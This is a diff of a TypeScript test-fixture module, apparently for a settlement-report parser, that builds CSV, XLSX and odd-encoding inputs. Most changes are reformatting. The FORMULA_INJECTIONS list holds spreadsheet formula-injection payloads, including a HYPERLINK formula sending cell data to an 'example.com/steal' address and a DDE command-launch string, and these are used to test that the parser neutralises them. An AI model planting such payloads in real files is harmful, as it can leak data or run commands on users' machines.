@@ -44,7 +44,19 @@ export function utf16le(text: string, bom = true): Uint8Array {
   return out;
 }
 
-const WINDOWS_1252_EXTRAS: Record<string, number> = { '€': 0x80, '‚': 0x82, '„': 0x84, '…': 0x85, '‘': 0x91, '’': 0x92, '“': 0x93, '”': 0x94, '–': 0x96, '—': 0x97, '™': 0x99 };
+const WINDOWS_1252_EXTRAS: Record<string, number> = {
+  '€': 0x80,
+  '‚': 0x82,
+  '„': 0x84,
+  '…': 0x85,
+  '‘': 0x91,
+  '’': 0x92,
+  '“': 0x93,
+  '”': 0x94,
+  '–': 0x96,
+  '—': 0x97,
+  '™': 0x99,
+};
 
 /** Windows-1252 bytes, as older Excel saves "CSV" (Latin-1 plus dashes and curly quotes). */
 export function windows1252(text: string): Uint8Array {
@@ -77,7 +89,7 @@ export function baseSettlement(skip: readonly number[] = []): number {
 
 export const FORMULA_INJECTIONS = [
   '=HYPERLINK("http://example.com/steal?"&A1,"Click")',
-  '=cmd|\' /C calc\'!A0',
+  "=cmd|' /C calc'!A0",
   '+1+2',
   '-2+3',
   '@SUM(A1:A9)',
@@ -88,8 +100,17 @@ export const FORMULA_INJECTIONS = [
 
 /** Every text column of every data row holds a formula-looking string. */
 export function formulaInjectionRows(): string[][] {
-  const textColumns = ['Status', 'Currency', 'Product name', 'SKU name', 'Adjustment reason', 'Collection methods', 'Delivery option',
-    'Signature confirmation service fee type', 'Payment ID'];
+  const textColumns = [
+    'Status',
+    'Currency',
+    'Product name',
+    'SKU name',
+    'Adjustment reason',
+    'Collection methods',
+    'Delivery option',
+    'Signature confirmation service fee type',
+    'Payment ID',
+  ];
   const rows = BASE_ROWS.map((r) => r.slice());
   for (let r = 1; r < rows.length; r++) {
     textColumns.forEach((column, k) => {
@@ -100,13 +121,23 @@ export function formulaInjectionRows(): string[][] {
 }
 
 /** The base rows as an XLSX workbook (amounts as numbers, IDs as text), with options for quirks. */
-export function baseXlsx(opts: { dimension?: string | null; rows?: string[][]; ids?: 'text' | 'mangled' } = {}): Uint8Array {
+export function baseXlsx(
+  opts: { dimension?: string | null; rows?: string[][]; ids?: 'text' | 'mangled' } = {},
+): Uint8Array {
   const rows = opts.rows ?? BASE_ROWS;
-  const money = new Set(['Total settlement amount', 'Net sales', 'Gross sales', 'Fees', 'Shipping', 'Referral fee']);
+  const money = new Set([
+    'Total settlement amount',
+    'Net sales',
+    'Gross sales',
+    'Fees',
+    'Shipping',
+    'Referral fee',
+  ]);
   const cells: XlsxCell[][] = rows.map((row, r) =>
     row.map((text, c) => {
       if (r === 0) return text;
-      if (opts.ids === 'mangled' && r === 2 && HEADER[c] === 'Order/adjustment ID') return { number: '5.77E+17' };
+      if (opts.ids === 'mangled' && r === 2 && HEADER[c] === 'Order/adjustment ID')
+        return { number: '5.77E+17' };
       if (money.has(HEADER[c]) && /^-?\d+\.\d\d$/.test(text)) return Number(text);
       return text;
     }),
@@ -126,23 +157,39 @@ export function corruptMiddle(bytes: Uint8Array): Uint8Array {
   return out;
 }
 
-export const zipWithoutWorkbook = (): Uint8Array => zipSync({ 'readme.txt': strToU8('quarterly photos'), 'img/a.txt': strToU8('x') });
+export const zipWithoutWorkbook = (): Uint8Array =>
+  zipSync({ 'readme.txt': strToU8('quarterly photos'), 'img/a.txt': strToU8('x') });
 
-export const csv = (rows: readonly (readonly string[])[], delimiter: ',' | '\t' = ','): string => toCsv(rows, delimiter);
+export const csv = (rows: readonly (readonly string[])[], delimiter: ',' | '\t' = ','): string =>
+  toCsv(rows, delimiter);
 
 /** Semicolon-separated, as a European-region Excel saves CSV; `decimalComma` also writes `12,34`. */
 export function semicolonCsv(decimalComma: boolean): string {
-  return BASE_ROWS.map((row) =>
-    row.map((cell) => {
-      const text = decimalComma && /^-?\d+\.\d\d$/.test(cell) ? cell.replace('.', ',') : cell;
-      return /[";\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
-    }).join(';'),
-  ).join('\r\n') + '\r\n';
+  return (
+    BASE_ROWS.map((row) =>
+      row
+        .map((cell) => {
+          const text = decimalComma && /^-?\d+\.\d\d$/.test(cell) ? cell.replace('.', ',') : cell;
+          return /[";\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
+        })
+        .join(';'),
+    ).join('\r\n') + '\r\n'
+  );
 }
 
 /** Amounts written with decimal commas in quoted fields of a comma-separated file. */
 export function decimalCommaQuotedCsv(): string {
-  return BASE_ROWS.map((row, r) =>
-    row.map((cell) => (r > 0 && /^-?\d+\.\d\d$/.test(cell) ? `"${cell.replace('.', ',')}"` : /[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell)).join(','),
-  ).join('\r\n') + '\r\n';
+  return (
+    BASE_ROWS.map((row, r) =>
+      row
+        .map((cell) =>
+          r > 0 && /^-?\d+\.\d\d$/.test(cell)
+            ? `"${cell.replace('.', ',')}"`
+            : /[",\r\n]/.test(cell)
+              ? `"${cell.replace(/"/g, '""')}"`
+              : cell,
+        )
+        .join(','),
+    ).join('\r\n') + '\r\n'
+  );
 }
